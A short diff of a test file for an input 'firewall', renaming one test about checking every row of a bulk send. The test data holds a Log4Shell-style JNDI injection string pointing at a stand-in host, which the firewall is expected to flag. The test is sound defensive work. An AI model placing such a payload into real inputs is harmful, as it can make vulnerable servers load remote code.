@@ -90,7 +90,7 @@ describe('firewall class of a field', () => {
     ).toBe('script-tag');
   });
 
-  it('inspects every row of a bulk send as prose', () => {
+  it('applies the rules for prose to every row of a bulk send', () => {
     const rows = [{ 'Buyer.email': 'a@example.com', Note: "O'Neil; see <annex>" }];
     expect(judged('checkBulkSend', 'body', { rows })).toBeUndefined();
     expect(judged('checkBulkSend', 'body', { rows: [{ Note: '${jndi:ldap://a.example/x}' }] })?.ruleId).toBe(
